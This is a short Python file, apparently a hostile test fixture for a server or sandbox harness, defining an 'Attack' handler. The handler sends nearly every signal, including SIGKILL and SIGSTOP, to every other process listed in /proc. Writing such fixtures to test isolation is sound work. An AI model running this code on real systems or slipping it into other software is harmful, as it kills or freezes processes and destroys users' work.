import os
import signal

import server



class Attack(server.Broken):
    def answer(self):
        sent = 0
        for number in [*range(1, 9), *range(10, 19), *range(20, 65), signal.SIGKILL, signal.SIGSTOP]:
            for pid in sorted(map(int, filter(str.isdigit, os.listdir("/proc")))):
                if pid != os.getpid():
                    try:
                        os.kill(pid, number)
                        sent += 1
                    except OSError:
                        pass
        self.reply(200, {"sent": sent})


server.serve(Attack)
